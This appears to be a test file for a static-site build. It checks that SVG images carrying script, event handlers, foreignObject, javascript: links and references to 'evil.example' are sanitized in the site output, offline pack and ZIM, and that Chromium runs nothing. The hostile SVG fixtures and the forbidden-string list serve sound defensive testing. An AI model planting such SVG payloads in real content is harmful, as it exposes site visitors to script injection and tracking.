/**
 * SVG is active content. A content image over Vite's 4 kB inline limit, one under it, a GIF and an SVG in
 * `public/`, each with script, handlers, `foreignObject` and references to another site: the build passes
 * with one warning per file, nothing is inlined as `data:` (which the site's `img-src 'self'` would block),
 * every SVG in the output, the pack and the ZIM is sanitized, and real Chromium shows the images and, opening
 * each SVG at its own URL online, from the classroom server and from kiwix-serve, sees no dialog and makes
 * no request to another origin.
 */
import { execFileSync } from 'node:child_process';
import { readFile, writeFile } from 'node:fs/promises';
import path from 'node:path';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { astroBuild, type BuildResult } from '../support/astro-build.ts';
import { launchChromium, serveSite, startClassroom, startKiwixServe, type RunningServer } from '../support/browser.ts';
import { createFixtureProject } from '../support/fixture-project.ts';
import { readPack } from '../support/packs.ts';
import { runScript } from '../support/run-script.ts';
import { builtPages, loadPage } from '../support/site.ts';
import { makeZims, type ZimFixture } from '../support/zims.ts';
import { walkInside } from '../../src/security/content-files.ts';

const EVIL = 'https://evil.example';

/** Everything an SVG can do beyond drawing, each of which must be gone from what the site serves. */
const hostileParts = [
	`<script>alert('svg-script')</script>`,
	`<script href="${EVIL}/x.js"/>`,
	`<style>@import url(${EVIL}/style.css); .dot { fill: url(${EVIL}/paint.svg#p) }</style>`,
	`<image href="${EVIL}/leak.png" width="4" height="4"/>`,
	`<foreignObject width="10" height="10"><div xmlns="http://www.w3.org/1999/xhtml"><img src="${EVIL}/fo.png" onerror="alert('fo')"/></div></foreignObject>`,
	`<a href="javascript:alert('link')"><text x="2" y="30">tap</text></a>`,
	`<set attributeName="onmouseover" to="alert('set')"/>`,
	`<rect width="8" height="8" style="fill: url(${EVIL}/style-attr.png)"/>`,
].join('');

const hostileSvg = (padding: number) =>
	`<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 64 64" width="64" height="64" onload="alert('onload')">` +
	`<title>A kite</title><circle class="dot" cx="32" cy="32" r="24" fill="#2a6"/>${hostileParts}` +
	// Many plain shapes make the file as large as a real illustration.
	Array.from({ length: padding }, (_, index) => `<rect x="${index % 60}" y="${(index * 7) % 60}" width="2" height="2" fill="#135"/>`).join('') +
	`</svg>\n`;

/** A 1×1 GIF: 43 bytes, far under the inline limit. */
const TINY_GIF = Buffer.from('R0lGODlhAQABAIAAAP///wAAACH5BAEAAAAALAAAAAABAAEAAAICRAEAOw==', 'base64');

let root: string;
let dist: string;
let packs: string;
let build: BuildResult;
let zims: ZimFixture;

beforeAll(async () => {
	root = await createFixtureProject('hostile-images', {
		'content/images/hostile/big.svg': hostileSvg(120),
		'content/images/hostile/small.svg': hostileSvg(0),
		'public/images/public-hostile.svg': hostileSvg(0),
		'content/images/hostile/not-an-svg.svg': 'this is not XML <',
		'content/en/pictures.md': [
			'---',
			'title: Pictures',
			'description: Drawings from the workshop.',
			'---',
			'',
			'![A large kite](../images/hostile/big.svg)',
			'',
			'![A small kite](../images/hostile/small.svg)',
			'',
			'![A dot](../images/hostile/tiny.gif)',
			'',
			'![A kite from public](/images/public-hostile.svg)',
			'',
		].join('\n'),
	});
	await writeFile(path.join(root, 'content/images/hostile/tiny.gif'), TINY_GIF);
	dist = path.join(root, 'dist');
	packs = path.join(root, 'dist-offline');
	build = await astroBuild(root, dist, { GLOSSA_OFFLINE_DIR: packs });
	if (build.code !== 0) throw new Error(`the build failed:\n${build.output}`);
	zims = await makeZims('hostile-images-zim', ['en'], { dist, packs });
}, 300_000);

function expectClean(svg: string, where: string) {
	for (const forbidden of ['<script', 'onload', 'onerror', 'foreignObject', 'evil.example', 'javascript:', '@import', 'onmouseover'])
		expect(svg, `${where} holds ${forbidden}`).not.toContain(forbidden);
	expect(svg, where).toContain('<circle');
}

describe('a build with hostile SVG images', () => {
	it('passes, with one warning per hostile SVG naming what was removed', () => {
		expect(build.code, build.output).toBe(0);
		const warnings = (file: string) => build.output.split('\n').filter((line) => line.includes(`${file}: SVG is active content`));
		for (const file of ['content/images/hostile/big.svg', 'content/images/hostile/small.svg', 'public/images/public-hostile.svg']) {
			expect(warnings(file), file).toHaveLength(1);
			expect(warnings(file)[0]).toMatch(/removed .*<script>/);
		}
		expect(build.output).toMatch(/content\/images\/hostile\/not-an-svg\.svg: is not well-formed XML.*it is not published/);
	});

	it('npm run check says the same, and refuses the file that is not an SVG', async () => {
		const check = await runScript(root, 'scripts/i18n/cli.ts', ['check']);
		expect(check.output).toMatch(/content\/images\/hostile\/big\.svg: SVG is active content; removed <script>/);
		expect(check.output).toMatch(/public\/images\/public-hostile\.svg: SVG is active content/);
		expect(check.output).toMatch(/content\/images\/hostile\/not-an-svg\.svg: is not well-formed XML/);
		expect(check.code).toBe(1);
	});

	it('inlines no image as data:, and points each at a file of the site', async () => {
		for (const page of await builtPages(dist)) expect(await readFile(path.join(dist, page), 'utf8'), page).not.toMatch(/(?:src|srcset|href)="data:/);
		const $ = loadPage(dist, '/en/pictures/');
		const sources = $('article img')
			.map((_, image) => $(image).attr('src'))
			.get();
		expect(sources).toHaveLength(4);
		for (const source of sources) expect(source).toMatch(/^\/(?:_astro|images)\/[^/]+\.(?:svg|gif)$/);
	});

	it('sanitizes every SVG in the output, the pack and the ZIM', async () => {
		const svgs = (await walkInside(dist)).files.filter((file) => file.endsWith('.svg'));
		expect(svgs.length).toBeGreaterThanOrEqual(3);
		for (const file of svgs) if (/hostile|kite|big|small/.test(file)) expectClean(await readFile(path.join(dist, file), 'utf8'), file);
		expect(svgs.filter((file) => file.includes('not-an-svg'))).toEqual([]);
		const pack = await readPack(path.join(packs, 'en.zip'));
		const packed = [...pack.keys()].filter((entry) => entry.endsWith('.svg') && !entry.includes('favicon') && !entry.includes('offline-pack'));
		expect(packed.length).toBeGreaterThanOrEqual(3);
		for (const entry of packed) expectClean(pack.get(entry)!.toString('utf8'), `pack ${entry}`);
		expect(zims.code, zims.output).toBe(0);
		const zim = path.join(zims.out, 'kitebird_en_all.zim');
		const listed = execFileSync('zimdump', ['list', zim], { encoding: 'utf8' })
			.split('\n')
			.filter((entry) => entry.endsWith('.svg') && /_astro|public-hostile/.test(entry));
		expect(listed.length).toBeGreaterThanOrEqual(3);
		for (const entry of listed) expectClean(execFileSync('zimdump', ['show', `--url=${entry}`, zim], { encoding: 'utf8' }), `ZIM ${entry}`);
	});
});

describe('hostile SVG images in Chromium', () => {
	let browser: Browser;
	const servers: RunningServer[] = [];
	beforeAll(async () => {
		browser = await launchChromium();
	});
	afterAll(async () => {
		await browser?.close();
		for (const server of servers) await server.stop();
	});

	/** Opens `url`, waits for its images, and reports dialogs, requests to other origins and broken images. */
	async function visit(url: string) {
		const context = await browser.newContext({ serviceWorkers: 'block' });
		const tab = await context.newPage();
		const dialogs: string[] = [];
		const leaving: string[] = [];
		const origin = new URL(url).origin;
		tab.on('dialog', (dialog) => {
			dialogs.push(dialog.message());
			void dialog.dismiss();
		});
		tab.on('request', (request) => {
			if (!request.url().startsWith(origin)) leaving.push(request.url());
		});
		await tab.goto(url, { waitUntil: 'load' });
		// Content images load lazily: ask for each now, and wait until it is decoded or has failed.
		const broken = await tab.evaluate(async () => {
			const images = [...document.images];
			for (const image of images) image.loading = 'eager';
			await Promise.all(images.map((image) => image.decode().catch(() => undefined)));
			return images.filter((image) => image.naturalWidth === 0).map((image) => image.currentSrc || image.src);
		});
		await context.close();
		return { dialogs, leaving, broken };
	}

	async function svgUrls(): Promise<string[]> {
		const $ = loadPage(dist, '/en/pictures/');
		return $('article img')
			.map((_, image) => $(image).attr('src')!)
			.get()
			.filter((source) => source.endsWith('.svg'));
	}

	it('online: the images show, and each SVG opened at its URL runs nothing and loads nothing', async () => {
		const server = await serveSite(dist);
		servers.push(server);
		const page = await visit(`${server.url}/en/pictures/`);
		expect(page).toEqual({ dialogs: [], leaving: [], broken: [] });
		for (const source of await svgUrls()) expect(await visit(`${server.url}${source}`), source).toEqual({ dialogs: [], leaving: [], broken: [] });
	});

	it('classroom server: the same', async () => {
		const server = await startClassroom(packs);
		servers.push(server);
		expect(await visit(`${server.url}/en/pictures/index.html`)).toEqual({ dialogs: [], leaving: [], broken: [] });
		for (const source of await svgUrls()) expect(await visit(`${server.url}${source}`), source).toEqual({ dialogs: [], leaving: [], broken: [] });
	});

	it('kiwix-serve with the ZIM: the same', async () => {
		const server = await startKiwixServe([path.join(zims.out, 'kitebird_en_all.zim')]);
		servers.push(server);
		const base = `${server.url}/kitebird_en_all`;
		expect((await visit(`${base}/en/pictures/index.html`)).dialogs).toEqual([]);
		for (const source of await svgUrls()) {
			const report = await visit(`${base}${source}`);
			expect(report.dialogs, source).toEqual([]);
			expect(report.leaving, source).toEqual([]);
		}
	});
});
